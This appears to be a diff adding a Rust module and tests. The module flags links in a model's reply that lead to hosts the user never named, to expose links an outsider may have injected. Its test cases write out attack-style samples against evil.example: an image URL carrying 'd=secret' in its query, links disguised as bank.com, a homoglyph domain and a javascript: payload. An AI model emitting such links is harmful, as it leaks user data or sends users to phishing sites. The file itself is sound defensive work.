@@ -1,0 +1,331 @@
+//! Links in what a model says to a person: where each truly leads, and whether the person ever
+//! named that place. What they did not name and an outsider may have put there is marked.
+
+use std::collections::BTreeSet;
+use url::{Host, Url};
+
+/// Schemes that lead somewhere without naming a host.
+const OPAQUE: [&str; 9] = [
+    "mailto:",
+    "data:",
+    "javascript:",
+    "vbscript:",
+    "tel:",
+    "sms:",
+    "file:",
+    "magnet:",
+    "blob:",
+];
+/// Most text of the user's that is remembered, bytes; beyond it, nothing more counts as named.
+const SAID_BYTES: usize = 1 << 20;
+/// Longest place that is written out, characters.
+const PLACE_CHARS: usize = 120;
+
+/// What is known when an answer is shown.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Known {
+    said: String,
+    has_seen_outsiders: bool,
+}
+
+impl Known {
+    /// Notes what the user said.
+    pub fn hear(&mut self, text: &str) {
+        if self.said.len() + text.len() <= SAID_BYTES {
+            self.said.push('\n');
+            self.said.push_str(&text.to_lowercase());
+        }
+    }
+
+    /// Notes that the model has read something which is not the user's: from then on, any place it
+    /// names may be an outsider's choice.
+    pub const fn meet_outsiders(&mut self) {
+        self.has_seen_outsiders = true;
+    }
+
+    /// Where the links of a text lead that the user did not name, each once; nothing before an
+    /// outsider had a say.
+    #[must_use]
+    pub fn strange(&self, text: &str) -> Vec<String> {
+        if !self.has_seen_outsiders {
+            return Vec::new();
+        }
+        let mut places = BTreeSet::new();
+        for lead in leads(text) {
+            if !self.names(&lead) {
+                places.insert(lead.place());
+            }
+        }
+        places.into_iter().collect()
+    }
+
+    /// Whether the user gave the link itself, or its host and nothing else is handed along.
+    fn names(&self, lead: &Lead) -> bool {
+        let is_said = |text: &str| stands_in(&self.said, &text.to_lowercase());
+        is_said(&lead.written)
+            || match &lead.url {
+                Some(url) => {
+                    let is_bare = url.query().is_none()
+                        && url.fragment().is_none()
+                        && url.username().is_empty();
+                    is_bare && url.host_str().is_some_and(is_said)
+                }
+                None => false,
+            }
+    }
+}
+
+/// A text with each strange place written beside the word that leads there. Everything else stays
+/// as `shown` has it. `mark` turns places into what is written.
+#[must_use]
+pub fn marked(
+    text: &str,
+    known: &Known,
+    shown: impl Fn(&str) -> String,
+    mark: impl Fn(&str) -> String,
+) -> String {
+    if !known.has_seen_outsiders {
+        return shown(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    // What stands between two marks is shown in one piece: how a character reads may depend on the
+    // one before it.
+    let mut from = 0;
+    let mut at = 0;
+    for piece in text.split_inclusive(char::is_whitespace) {
+        let word = piece.trim_end_matches(char::is_whitespace);
+        let strange = known.strange(word);
+        if !strange.is_empty() {
+            let end = at + word.len();
+            out.push_str(&shown(&text[from..end]));
+            out.push_str(&mark(&strange.join(", ")));
+            from = end;
+        }
+        at += piece.len();
+    }
+    out.push_str(&shown(&text[from..]));
+    out
+}
+
+/// One link as it is written.
+struct Lead {
+    written: String,
+    /// As a browser understands it; `None` for one that names no host.
+    url: Option<Url>,
+}
+
+impl Lead {
+    /// Where it leads, in ASCII, so that letters which look alike do not pass for one another.
+    fn place(&self) -> String {
+        let host = self.url.as_ref().and_then(Url::host);
+        let place = match host {
+            Some(Host::Domain(name)) => name.to_owned(),
+            Some(Host::Ipv4(address)) => address.to_string(),
+            Some(Host::Ipv6(address)) => format!("[{address}]"),
+            None => {
+                let scheme = self
+                    .written
+                    .split_once(':')
+                    .map_or("", |(scheme, _)| scheme);
+                format!("a {}: link", scheme.to_lowercase())
+            }
+        };
+        crate::escape::visible(&place.chars().take(PLACE_CHARS).collect::<String>())
+    }
+}
+
+/// Every link in a text, whatever markup it stands in.
+fn leads(text: &str) -> Vec<Lead> {
+    let mut found = Vec::new();
+    for word in
+        text.split(|c: char| c.is_whitespace() || c.is_control() || "<>\"'`{}|^".contains(c))
+    {
+        let mut rest = word;
+        while let Some((lead, after)) = first_lead(rest) {
+            found.extend(lead);
+            rest = after;
+        }
+    }
+    found
+}
+
+/// The first thing in a word that may lead somewhere, and what follows where it began.
+fn first_lead(word: &str) -> Option<(Option<Lead>, &str)> {
+    let lower = word.to_ascii_lowercase();
+    let opaque = OPAQUE.iter().filter_map(|scheme| lower.find(scheme));
+    let opaque = opaque.filter(|at| !is_letter_before(word, *at)).min();
+    let www = lower.find("www.").filter(|at| !is_letter_before(word, *at));
+    let slashes = slashes(word);
+    let at = [opaque, www, slashes].into_iter().flatten().min()?;
+    let end = word[at..]
+        .find([')', ']', '['])
+        .map_or(word.len(), |end| at + end);
+    // An address of version 6 stands in brackets.
+    let end = match word[at..].find("[") {
+        Some(open) if word[..at + open].ends_with(['/', '\\', '@']) => word[at + open..]
+            .find([')', ' '])
+            .map_or(word.len(), |close| at + open + close),
+        _ => end,
+    };
+    let written = word[at..end].trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_']);
+    let after = &word[end.max(at + 1).min(word.len())..];
+    let after = if word.is_char_boundary(word.len() - after.len()) {
+        after
+    } else {
+        ""
+    };
+    Some((lead(written, opaque == Some(at)), after))
+}
+
+fn lead(written: &str, is_opaque: bool) -> Option<Lead> {
+    let written_out = if written.starts_with(['/', '\\']) {
+        format!("https:{written}")
+    } else if written.to_ascii_lowercase().starts_with("www.") {
+        format!("https://{written}")
+    } else {
+        written.to_owned()
+    };
+    let url = Url::parse(&written_out).ok().filter(Url::has_host);
+    // What a browser cannot read leads nowhere, but for a scheme that needs no host.
+    (url.is_some() || is_opaque).then(|| Lead {
+        written: written.to_owned(),
+        url,
+    })
+}
+
+/// Where a scheme with slashes begins, or slashes alone that begin a link's target.
+fn slashes(word: &str) -> Option<usize> {
+    let is_slash = |c: char| c == '/' || c == '\\';
+    let mut from = 0;
+    while let Some(found) = word[from..].find([':', '(']) {
+        let mark = from + found;
+        let behind = &word[mark + 1..];
+        let count = behind.chars().take_while(|c| is_slash(*c)).count();
+        if word[mark..].starts_with(':') && count >= 1 {
+            let scheme = word[..mark]
+                .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)))
+                .map_or(0, |at| {
+                    at + word[at..].chars().next().map_or(1, char::len_utf8)
+                });
+            if mark - scheme >= 2 {
+                return Some(scheme);
+            }
+        } else if word[mark..].starts_with('(') && count >= 2 {
+            return Some(mark + 1);
+        }
+        from = mark + 1;
+    }
+    None
+}
+
+fn is_letter_before(word: &str, at: usize) -> bool {
+    word[..at]
+        .chars()
+        .next_back()
+        .is_some_and(char::is_alphanumeric)
+}
+
+/// Whether a text stands in another by itself, not as a part of a longer name.
+fn stands_in(text: &str, wanted: &str) -> bool {
+    let is_part = |c: char| c.is_alphanumeric() || c == '-' || c == '_';
+    !wanted.is_empty()
+        && text.match_indices(wanted).any(|(at, _)| {
+            let (before, after) = (&text[..at], &text[at + wanted.len()..]);
+            let mut next = after.chars();
+            let goes_on = match next.next() {
+                Some('.') => next.next().is_some_and(is_part),
+                Some(c) => is_part(c) || c == '@',
+                None => false,
+            };
+            let begins_before = before
+                .chars()
+                .next_back()
+                .is_some_and(|c| is_part(c) || c == '.' || c == '@');
+            !goes_on && !begins_before
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn after_reading(said: &str) -> Known {
+        let mut known = Known::default();
+        known.hear(said);
+        known.meet_outsiders();
+        known
+    }
+
+    fn show(text: &str, known: &Known) -> String {
+        marked(text, known, str::to_owned, |places| format!(" <{places}>"))
+    }
+
+    #[test]
+    fn a_link_says_where_it_truly_leads() {
+        let known = after_reading("summarise notes.md");
+        let cases = [
+            ("[bank](https://evil.example/login)", "evil.example"),
+            (
+                "[https://bank.com](https://evil.example)",
+                "bank.com, evil.example",
+            ),
+            ("![x](https://evil.example/p.png?d=secret)", "evil.example"),
+            ("![x](//evil.example/p.png)", "evil.example"),
+            ("https://bank.com@evil.example/", "evil.example"),
+            ("https://bank.com:443@evil.example:8443/", "evil.example"),
+            ("http:\\\\evil.example\\x", "evil.example"),
+            ("HTTPS:/evil.example", "evil.example"),
+            (
+                "<a href=\"https://evil.example\">bank.com</a>",
+                "evil.example",
+            ),
+            ("[1]:https://evil.example", "evil.example"),
+            (
+                "\u{1b}]8;;https://evil.example\u{7}bank.com",
+                "evil.example",
+            ),
+            ("www.evil.example", "www.evil.example"),
+            ("https://b\u{430}nk.com/", "xn--bnk-6cd.com"),
+            ("http://2130706433/", "127.0.0.1"),
+            ("http://[::1]/x", "[::1]"),
+            ("[pay](javascript:alert(1))", "a javascript: link"),
+            ("mailto:eve@evil.example", "a mailto: link"),
+            ("(see https://evil.example).", "evil.example"),
+        ];
+        for (text, place) in cases {
+            let shown = show(text, &known);
+            assert!(shown.contains(&format!(" <{place}>")), "{text}: {shown}");
+            assert_eq!(shown.replace(&format!(" <{place}>"), ""), text);
+        }
+    }
+
+    #[test]
+    fn what_the_user_named_and_plain_text_stay_as_they_are() {
+        let known = after_reading("look at https://example.org/a?b=1 and docs.rs, then notes.md");
+        for text in [
+            "See https://example.org/a?b=1 for that.",
+            "It is on https://docs.rs/serde.",
+            "[docs](https://docs.rs/serde/latest)",
+            "Use `a: b`, 10:30, C:\\Users, src/main.rs, and/or; either//or.",
+            "key: value (see notes.md) [x](docs/a.md) e.g. 1.2.3.4",
+            "std::fs::read(path)",
+        ] {
+            assert_eq!(show(text, &known), text);
+        }
+        // The host alone is not leave to send something there, and a longer name is another.
+        for text in [
+            "https://docs.rs/?q=secret",
+            "https://docs.rs.evil.example/",
+            "https://evil-docs.rs/",
+            "https://me@docs.rs/",
+        ] {
+            assert_ne!(show(text, &known), text);
+        }
+    }
+
+    #[test]
+    fn before_anything_of_an_outsiders_was_read_nothing_is_marked() {
+        let text = "See https://doc.rust-lang.org/std.";
+        assert_eq!(show(text, &Known::default()), text);
+    }
+}
